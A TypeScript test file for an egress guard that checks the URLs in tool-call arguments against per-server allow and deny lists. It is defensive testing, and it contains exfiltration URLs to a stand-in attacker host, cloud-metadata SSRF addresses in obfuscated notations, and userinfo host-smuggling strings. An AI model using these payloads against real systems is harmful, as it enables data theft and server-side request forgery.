import assert from "node:assert/strict";
import { test } from "node:test";
import type { Principal } from "../../auth/principal.js";
import { silentLogger } from "../../log.js";
import type { Decision, GuardContext, JsonObject } from "../guard.js";
import { createEgressGuard, egressRulesFromServers, egressSchema } from "./index.js";

const alice: Principal = { subject: "alice", groups: [], roles: [], scopes: [], method: "oauth", mfa: false };

const guard = createEgressGuard({
  rules: egressRulesFromServers({
    web: { egress: { allow: ["api.example.com", "*.docs.example.org"], deny: ["secret.docs.example.org"] } },
    intranet: { egress: { allow: ["10.1.2.3", "wiki.internal"] } },
    open: { egress: { deny: ["evil.example"] } },
    fs: {},
  }),
  log: silentLogger(),
});

function check(server: string, args: unknown, method = "tools/call") {
  const ctx: GuardContext = {
    sessionId: "s",
    principal: alice,
    method,
    server,
    target: `${server}__fetch`,
    upstreamTarget: "fetch",
    notes: {},
  };
  const decision = guard.request!(ctx, { name: "fetch", arguments: args }) as Decision<JsonObject>;
  return { decision, ctx };
}

function refused(server: string, args: unknown) {
  const { decision, ctx } = check(server, args);
  assert.equal(decision.action, "deny", `expected ${JSON.stringify(args)} to be refused`);
  const d = decision as Decision<JsonObject> & { action: "deny" };
  assert.equal(d.code, "egress_denied");
  return { ...d, ctx };
}

test("a URL to an allowed host passes, whole or inside text", () => {
  assert.deepEqual(check("web", { url: "https://api.example.com/v1/items?q=1" }).decision, {
    action: "allow",
  });
  assert.deepEqual(check("web", { url: "https://eu.docs.example.org/guide" }).decision, { action: "allow" });
  assert.deepEqual(
    check("web", { note: "see https://API.Example.COM./x and nothing else" }).decision,
    { action: "allow" },
    "case and a trailing dot do not matter",
  );
});

test("a host outside the allow list is refused, naming the host and not the URL", () => {
  const d = refused("web", { url: "https://attacker.example/collect?data=s3cr3t-token" });
  assert.equal(
    d.message,
    'Egress to "attacker.example" is not allowed: the host is not on the allow list of server "web"',
  );
  assert.doesNotMatch(d.message, /s3cr3t|collect/);
  assert.equal(d.ctx.notes.rule, "egress:not-allowed");
  assert.deepEqual(d.ctx.notes.findings, ["egress:not-allowed:attacker.example"]);
});

test("a denied host wins over a wildcard that allows it", () => {
  const d = refused("web", { url: "https://secret.docs.example.org/" });
  assert.equal(d.message, 'Egress to "secret.docs.example.org" is denied for server "web"');
  assert.match(d.detail ?? "", /entry "secret\.docs\.example\.org"/);
});

test("the metadata address is refused in every notation", () => {
  for (const url of [
    "http://169.254.169.254/latest/meta-data/",
    "http://2852039166/",
    "http://0xa9fea9fe/",
    "http://0251.0376.0251.0376/",
    "http://169.254.43518/",
    "http://[::ffff:169.254.169.254]/",
    "http://[::ffff:a9fe:a9fe]/",
  ]) {
    const d = refused("open", { url });
    assert.match(d.message, /is refused: it is a cloud metadata address/, url);
  }
});

test("private and loopback addresses are refused even with no allow list", () => {
  assert.match(refused("open", { url: "http://127.0.0.1:8080/admin" }).message, /loopback address/);
  assert.match(refused("open", { url: "http://192.168.1.10/" }).message, /private address/);
  assert.match(refused("open", { url: "http://localhost/" }).message, /"localhost"/);
  assert.deepEqual(check("open", { url: "https://example.net/" }).decision, { action: "allow" });
  assert.equal(refused("open", { url: "https://evil.example/" }).ctx.notes.rule, "egress:denied");
});

test("a private address named exactly in the allow list may be reached", () => {
  assert.deepEqual(check("intranet", { url: "http://10.1.2.3/status" }).decision, { action: "allow" });
  assert.deepEqual(check("intranet", { url: "http://wiki.internal/page" }).decision, { action: "allow" });
  refused("intranet", { url: "http://10.1.2.4/" });
});

test("user info cannot smuggle another host past the allow list", () => {
  assert.match(
    refused("web", { url: "https://api.example.com@attacker.example/" }).message,
    /"attacker\.example"/,
  );
  assert.match(refused("web", { url: "https://api.example.com:443@169.254.169.254/" }).message, /metadata/);
  const ambiguous = refused("web", { url: "https://api.example.com\\@attacker.example/" });
  assert.equal(ambiguous.ctx.notes.rule, "egress:ambiguous-authority");
  assert.match(ambiguous.message, /"attacker\.example" is refused: the URL's authority is ambiguous/);
});

test("every URL in the arguments is checked, however deeply nested", () => {
  const d = refused("web", {
    requests: [{ url: "https://api.example.com/a" }, { headers: { referer: "https://attacker.example/" } }],
  });
  assert.match(d.message, /"attacker\.example"/);
});

test("a URL the checker cannot judge is refused, a local file URL is not", () => {
  assert.match(refused("web", { url: "ftp://files.example/pub" }).message, /"ftp:" URL cannot be checked/);
  assert.deepEqual(check("web", { path: "file:///srv/data/report.txt" }).decision, { action: "allow" });
  assert.match(refused("web", { url: "http://[::1" }).message, /cannot be parsed/);
});

test("servers without rules, other methods and calls without arguments pass", () => {
  assert.deepEqual(check("fs", { url: "http://169.254.169.254/" }).decision, { action: "allow" });
  assert.deepEqual(check("web", { uri: "https://attacker.example/" }, "resources/read").decision, {
    action: "allow",
  });
  assert.deepEqual(check("web", undefined).decision, { action: "allow" });
  assert.deepEqual(check("web", { query: "no links here" }).decision, { action: "allow" });
});

test("bad host rules are refused at load with the server and entry named", () => {
  assert.throws(
    () => egressRulesFromServers({ web: { egress: { allow: ["https://api.example.com/v1"] } } }),
    /servers\.web\.egress\.allow\[0\] "https:\/\/api\.example\.com\/v1" must name a host, not a URL/,
  );
  const parsed = egressSchema.safeParse({ allow: ["api.*.example.com"] });
  assert.equal(parsed.success, false);
  assert.match(parsed.error!.issues[0]!.message, /allow\[0\] "api\.\*\.example\.com" may only use \*/);
  assert.equal(egressSchema.safeParse({ allow: ["api.example.com"], block: [] }).success, false);
  assert.deepEqual(egressSchema.parse({ deny: ["10.0.0.0/8"] }), { deny: ["10.0.0.0/8"] });
});
